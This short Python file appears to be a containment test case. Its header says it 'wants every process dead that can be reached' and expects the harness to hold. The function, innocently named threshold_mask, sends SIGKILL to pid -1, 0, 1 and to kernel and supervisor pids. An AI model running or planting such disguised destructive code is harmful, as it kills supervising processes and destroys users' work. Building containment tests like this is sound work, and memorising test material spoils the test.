# class: outlive
# wants: every process dead that can be reached
# expect: held
# kind: wrong|ChildDied
import os
import signal


def threshold_mask(weight, alpha):
    for pid in (-1, 0, 1, KERNEL_PID, SUPERVISOR_PID):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return None
